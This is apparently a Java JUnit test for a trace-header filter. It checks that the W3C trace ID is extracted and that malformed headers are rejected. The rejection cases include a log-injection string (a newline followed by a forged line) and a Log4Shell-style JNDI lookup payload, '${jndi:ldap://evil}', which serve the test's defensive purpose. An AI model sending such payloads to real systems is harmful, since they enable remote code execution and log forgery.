package hallpass.resource.trace;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class TraceFilterTest {

    @Test
    void the_trace_is_the_second_part() {
        assertEquals(
                "4bf92f3577b34da6a3ce929d0e0e4736",
                TraceFilter.traceId("00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"));
    }

    @ParameterizedTest
    @NullSource
    @ValueSource(
            strings = {
                "",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7",
                "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01\nforged line",
                "00-${jndi:ldap://evil}-00f067aa0ba902b7-01"
            })
    void what_is_malformed_gets_into_no_log(String header) {
        assertNull(TraceFilter.traceId(header));
    }
}
